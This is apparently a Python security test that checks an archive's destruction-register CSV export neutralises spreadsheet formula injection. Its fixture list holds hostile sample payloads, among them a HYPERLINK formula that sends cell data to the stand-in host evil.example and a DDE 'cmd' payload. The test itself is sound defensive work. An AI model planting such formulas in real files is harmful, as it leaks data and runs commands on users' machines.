"""Formula cells in every CSV the archive produces (OWASP CSV injection): titles typed
as spreadsheet formulas come out of ``register.csv`` as text, a single quote before them.
The destruction register is the archive's only CSV export; a new CSV route belongs in
``CSV_ROUTES``."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import httpx

from tests.security.conftest import Secured
from tests.security.support import DUE, People, destruction_register, file_document

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]

CsvRoute = Callable[[People, dict[str, Any]], httpx.Response]
CSV_ROUTES: dict[str, CsvRoute] = {
    "destruction register": lambda people, register: people["qin"].get(
        f"/registry/destructions/{register['destruction_id']}/register.csv"),
}


def test_formula_cells_in_every_csv_come_out_as_text(secured: Secured, people: People
                                                     ) -> None:
    documents = [file_document(people["wang"], title=title, **DUE) for title in FORMULAS]
    register = destruction_register(secured, people, documents)
    for name, route in CSV_ROUTES.items():
        response = route(people, register)
        assert response.status_code == 200, (name, response.text)
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
        titles = {row[2] for row in rows[1:]}
        assert titles == {"'" + title for title in FORMULAS}, name
